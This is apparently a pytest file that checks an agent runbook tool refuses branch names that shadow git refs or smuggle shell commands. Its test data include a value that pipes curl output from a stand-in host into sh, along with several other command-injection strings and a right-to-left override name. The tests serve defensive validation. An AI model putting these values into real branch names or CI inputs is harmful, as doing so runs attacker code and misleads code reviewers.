"""A runbook's `branch:` template is the ticket author's to write when the runbook is the repository's
own, and git accepts as a branch name much that reads as another ref. The runner creates the branch in
the user's repository (a run's worktree shares its refs), so a branch named `origin/main` made
`git rev-parse origin/main`, `git diff origin/main` and `agentbook run --base origin/main` in that
checkout resolve to the agent's commits instead of the remote's; `refs/heads/main`, a tag's name or
the base commit's short id shadowed those the same way, and a right-to-left override in the name
showed another name in the pull request. A branch name must now be plain ASCII that resolves to
nothing yet, and name no remote, ref folder or special ref."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from gitkit import commit_files, git, make_repo

RUNBOOK = """---
name: probe
description: A runbook whose branch template the ticket's author wrote.
tools: [write]
limits: {{max_turns: 5, timeout: 5m}}
branch: "{branch}"
---
Probe.

## Probe
Write probe.txt.
"""
SCRIPT = Path(__file__).parents[1] / "agent" / "data" / "probe.script.yaml"


def _repo(tmp_path: Path, branch: str) -> Path:
    repo = make_repo(tmp_path)
    short = git(repo, "rev-parse", "--short=8", "HEAD").strip()  # a commit the branch's base holds
    repo = commit_files(repo, {"runbooks/probe.md": RUNBOOK.format(branch=branch.replace("@short", short))},
                        "a runbook")
    head = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "update-ref", "refs/remotes/origin/main", head)  # what a fetch from origin left
    git(repo, "remote", "add", "origin", "https://example.invalid/acme/widgets.git")
    git(repo, "tag", "v1", head)
    return repo


@pytest.mark.parametrize("branch", [
    "origin/main", "origin/agentbook-x", "refs/heads/main", "refs/remotes/origin/main", "refs/tags/v1",
    "heads/main", "tags/v2", "remotes/origin/x", "v1", "FETCH_HEAD", "ORIG_HEAD", "@", "@short",
    "agentbook/a\u202eb", "agentbook/caf\u00e9", "agentbook/HEAD",
    # pasted into a CI step's shell (`run: echo ${{ github.head_ref }}`): each ran its command
    "agentbook/$(curl${IFS}-sL${IFS}evil.example|sh)", "agentbook/`id`", "agentbook/x;id", "agentbook/x|sh",
    "agentbook/x&&id", "agentbook/'q'", "agentbook/x>y", "agentbook/$HOME",
])
def test_a_branch_name_that_reads_as_another_ref_is_refused(run_cli, tmp_path: Path, branch: str) -> None:
    repo = _repo(tmp_path, branch)
    refs_before = git(repo, "for-each-ref", "--format=%(refname) %(objectname)")
    r = run_cli("run", "probe", "--repo", repo, "--model", f"scripted:{SCRIPT}", "--json")
    assert r.code == 3 and "Traceback" not in r.err, r.out + r.err
    assert "branch" in r.err
    assert git(repo, "for-each-ref", "--format=%(refname) %(objectname)") == refs_before


def test_an_ordinary_template_branch_still_works(run_cli, tmp_path: Path) -> None:
    repo = _repo(tmp_path, "agentbook/probe/{ticket.id}")
    r = run_cli("run", "probe", "--repo", repo, "--model", f"scripted:{SCRIPT}", "--dry-run", "--json")
    assert r.code == 0, r.out + r.err
